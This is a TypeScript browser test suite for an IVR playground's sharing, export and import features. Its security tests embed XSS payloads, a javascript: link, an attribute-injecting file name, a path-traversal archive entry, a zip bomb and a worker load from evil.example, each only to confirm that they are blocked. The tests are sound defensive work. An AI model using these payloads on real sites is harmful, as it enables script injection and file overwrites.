// What comes in and goes out of the page: links, files, archives; and that none of it runs.
import { spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { unzipSync, zipSync } from 'fflate'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, inject, it, onTestFinished } from 'vitest'
import { launchBrowser, openPage } from '../testing/browser.ts'
import { CORNER_BANK } from '../testing/corner-bank.ts'
import { writeLink } from './link.ts'

let browser: Browser
beforeAll(async () => {
  browser = await launchBrowser()
})
afterAll(() => browser?.close())

/** The name of the text field says which file it has. */
const textOf = (page: Page, path: string) => page.getByRole('textbox', { name: new RegExp(`^Text of ${RegExp.escape(path)}`) })
const fragmentOf = (page: Page): string => new URL(page.url()).hash

async function typeInto(page: Page, path: string, text: string): Promise<void> {
  await textOf(page, path).waitFor({ state: 'attached' })
  await textOf(page, path).focus()
  await page.keyboard.press('ControlOrMeta+Home')
  await page.keyboard.insertText(text)
}

function temporaryFolder(): string {
  const folder = mkdtempSync(join(tmpdir(), 'callwright-share-'))
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }))
  return folder
}

/** Downloads what a menu's item makes, and unpacks an archive. */
async function exported(page: Page, item: RegExp): Promise<{ readonly name: string; readonly bytes: Uint8Array }> {
  await page.getByRole('button', { name: 'Export' }).click()
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('menuitem', { name: item }).click()])
  return { name: download.suggestedFilename(), bytes: readFileSync(await download.path()) }
}
function unpack(bytes: Uint8Array): string {
  const folder = temporaryFolder()
  for (const [path, content] of Object.entries(unzipSync(bytes))) {
    mkdirSync(dirname(join(folder, path)), { recursive: true })
    writeFileSync(join(folder, path), content)
  }
  return folder
}
function callwright(cwd: string, args: readonly string[], input = ''): { readonly status: number | null; readonly output: string } {
  const main = join(import.meta.dirname, '../../cli/main.ts')
  const { status, stdout, stderr } = spawnSync(process.execPath, [main, ...args], { cwd, encoding: 'utf8', input })
  return { status, output: stdout + stderr }
}

it('the address follows what is typed, and a stranger opens by it what was typed, as nobody’s', async () => {
  const { page, context, complaints } = await openPage(browser, { permissions: ['clipboard-read', 'clipboard-write'] })
  expect(fragmentOf(page)).toBe('')
  await typeInto(page, 'main.ivr', '// 来自链接\n')
  await page.waitForFunction(() => location.hash.startsWith('#p1='))
  await page.getByRole('button', { name: 'Share' }).click()
  await page.getByText(/The link is copied\. It holds the whole project in [\d,]+ characters/).waitFor()
  const link = await page.evaluate(() => navigator.clipboard.readText())
  expect(link).toBe(page.url())
  // An example with a line of one's own is its difference.
  expect(link.length).toBeLessThan(4000)

  const stranger = await openPage(browser, { fragment: new URL(link).hash })
  await stranger.page.getByText('// 来自链接').waitFor()
  await stranger.page.getByText('This project came by a link.').waitFor()
  expect(await stranger.page.locator('.frame-telephone').getByRole('button', { name: 'Call', exact: true }).isVisible()).toBe(true)
  await stranger.page.getByRole('button', { name: 'Keep a copy' }).click()
  await stranger.page.getByRole('button', { name: /^Project: / }).click()
  await stranger.page.getByRole('menuitemradio', { name: /Harbour Bank Card Centre/, checked: true }).waitFor()
  expect([complaints, stranger.complaints]).toEqual([[], []])
  await stranger.context.close()
  await context.close()
})

it('a reload loses nothing, not even what was typed this moment', async () => {
  const { page, context } = await openPage(browser)
  await typeInto(page, 'main.ivr', '// first\n')
  await page.waitForFunction(() => location.hash.startsWith('#p1='))
  await page.keyboard.insertText('// second\n')
  await page.reload()
  await page.getByText('// second').waitFor()
  await page.getByText('// first').waitFor()
  expect(await page.getByText('This project came by a link.').count()).toBe(0)
  await context.close()
})

it('what a link brought is called on a telephone’s screen, and no notice lies over the keys', async () => {
  const fragment = `#${(await writeLink({ files: { 'main.ivr': CORNER_BANK }, entry: 'main.ivr', current: 'main.ivr' }, null))!}`
  const { page, context, complaints } = await openPage(browser, { fragment, viewport: { width: 390, height: 844 }, hasTouch: true })
  const notice = page.getByText('This project came by a link')
  await notice.waitFor()
  await page.locator('.telephone-call:enabled').tap()
  await page.locator('.telephone-hang-up').waitFor()
  await notice.waitFor({ state: 'detached' })
  await page.getByRole('group', { name: 'Keypad' }).getByRole('button', { name: /^0/ }).tap()
  await page.locator('.telephone-row', { hasText: 'Good-bye.' }).waitFor()
  expect(complaints).toEqual([])
  await context.close()
})

it('a wrong link says so and opens an example', async () => {
  const { page, context, complaints } = await openPage(browser, { fragment: '#p1=bZDBTsMwDIbvfQ' })
  await page.getByText('This link is not whole').waitFor()
  await textOf(page, 'main.ivr').waitFor({ state: 'attached' })
  expect(complaints).toEqual([])
  await context.close()
})

it('what is exported is what the command line takes', async () => {
  const { page, context, complaints } = await openPage(browser, { fragment: '#example=empty' })
  await textOf(page, 'main.ivr').waitFor({ state: 'attached' })
  const project = await exported(page, /All files/)
  expect(project.name).toBe('first.zip')
  const tested = callwright(unpack(project.bytes), ['test'])
  expect(tested).toMatchObject({ status: 0, output: expect.stringMatching(/scripts: \d+ passed/) as unknown })
  const bundle = await exported(page, /Bundle/)
  expect(callwright(unpack(bundle.bytes), ['dial', '.'], '1')).toMatchObject({
    status: 0,
    output: expect.stringContaining('余额查询') as unknown,
  })
  const graph = await exported(page, /Graph/)
  expect([graph.name, new TextDecoder().decode(graph.bytes)]).toEqual([
    'first.svg',
    expect.stringMatching(/^<svg[^]*balance[^]*<\/svg>\s*$/),
  ])
  const book = await exported(page, /Flow book/)
  expect(new TextDecoder().decode(book.bytes)).toMatch(/^<!doctype html>[^]*balance/i)
  expect(complaints).toEqual([])
  await context.close()
})

it('an archive becomes a project, single files join the one that is open, and what is no file of a project is left', async () => {
  const { page, context, complaints } = await openPage(browser)
  await textOf(page, 'main.ivr').waitFor({ state: 'attached' })
  const text = (value: string): Uint8Array => new TextEncoder().encode(value)
  const choose = async (name: string, buffer: Uint8Array): Promise<void> => {
    await page.getByRole('button', { name: /^Project: / }).click()
    const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.getByRole('menuitem', { name: 'Open files…' }).click()])
    await chooser.setFiles({ name, mimeType: 'application/octet-stream', buffer: Buffer.from(buffer) })
  }
  await choose('notes.txt', text('a note'))
  await page.getByText('notes.txt: brought into this project.').waitFor()
  await choose(
    'bank.zip',
    zipSync({ 'bank/hello.ivr': text('line hello "Hello" {}'), 'bank/x.exe': text('x'), 'bank/../../up.ivr': text('') }),
  )
  await page.getByRole('treeitem', { name: 'hello.ivr' }).waitFor()
  expect(await page.getByRole('treeitem').count()).toBe(1)
  await choose('broken.zip', text('PK no archive'))
  await page.getByText('broken.zip cannot be read').waitFor()
  await choose('bomb.zip', zipSync({ 'a.txt': new Uint8Array(30_000_000) }, { level: 9 }))
  await page.getByText('bomb.zip holds more than a project may have').waitFor()
  expect(complaints).toEqual([])
  await context.close()
})

const EVIL = `<img src=x onerror=window.ran=1><script>window.ran=1</script><svg onload=window.ran=1>`
const EVIL_LINK = 'javascript:window.ran=1'

it('names, labels, texts, answers and file names of a shared link are text and nothing else', async () => {
  const quoted = EVIL.replaceAll('"', "'")
  const files = {
    'main.ivr': `/// ${EVIL} [${quoted}](${EVIL_LINK})
line evil "${quoted}" {
  numbers { "95500" -> main }
  languages en-US
  time zone Asia/Shanghai
  otherwise -> bye
  on fault -> bye
}
service bank { query who() -> text within 2s }
menu main { press 1 for "${quoted}" -> tell  press 2 for "${EVIL_LINK}" -> bye }
/// ${EVIL}
flow tell { let name = query bank.who() else { -> bye }  say "{name} ${quoted}" -> bye }
flow bye { say "${quoted}" -> hangup }
import { ${'x'} } from "./${quoted}.ivr"
`,
    'a & b onerror=window.ran=1.ivr': '// x',
    'evil.dtmf': `use "./main.ivr"\nscript "${quoted}" { given bank.who answers "${quoted}"\n press 1\n hear "${quoted}" }`,
  }
  const link = await writeLink({ files, entry: 'main.ivr', current: 'main.ivr' }, null)
  const { page, context, complaints } = await openPage(browser, { fragment: `#${link}` })
  await textOf(page, 'main.ivr').waitFor({ state: 'attached' })
  await page.waitForTimeout(1500)
  for (const tab of ['Scripts', 'Problems', 'Graph']) {
    await page.getByRole('tab', { name: tab }).click()
    await page.waitForTimeout(500)
  }
  await page.getByRole('treeitem', { name: 'evil.dtmf' }).click()
  await page.getByRole('treeitem', { name: 'main.ivr' }).click()
  await page.locator('.monaco-editor .view-line', { hasText: 'line' }).first().hover()
  await page.getByRole('button', { name: /^Project: / }).click()
  await page.keyboard.press('Escape')
  const found = await page.evaluate(() => ({
    ran: (globalThis as { ran?: number }).ran ?? null,
    elements: document.querySelectorAll('img, script:not([src]), iframe, object, embed, [onerror], [onload], a[href^="javascript:"]')
      .length,
  }))
  expect(found).toEqual({ ran: null, elements: 0 })
  expect(complaints).toEqual([])
  await context.close()
})

it('the page says what it may load, and makes no script of text', async () => {
  const folder = inject('playgroundFolder')
  const html = readFileSync(join(folder, 'index.html'), 'utf8')
  expect(html).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;; script-src &#39;self&#39;;/)
  expect(html).not.toMatch(/<script(?![^>]* src=)|<style| style=| on\w+=/)
  const { page, context } = await openPage(browser)
  const tried = await page.evaluate(async () => {
    const fails = (act: () => unknown): boolean => {
      try {
        act()
        return false
      } catch {
        return true
      }
    }
    // In a turn of the page's own: whoever looks from outside may do more.
    await new Promise(resolve => setTimeout(resolve))
    return {
      // eslint-disable-next-line no-eval -- that it cannot be done
      eval: fails(() => (0, eval)('1')),
      html: fails(() => (document.createElement('div').innerHTML = '<b>x</b>')),
      worker: fails(() => new Worker('https://evil.example/x.js')),
    }
  })
  expect(tried).toEqual({ eval: true, html: true, worker: true })
  await context.close()
})
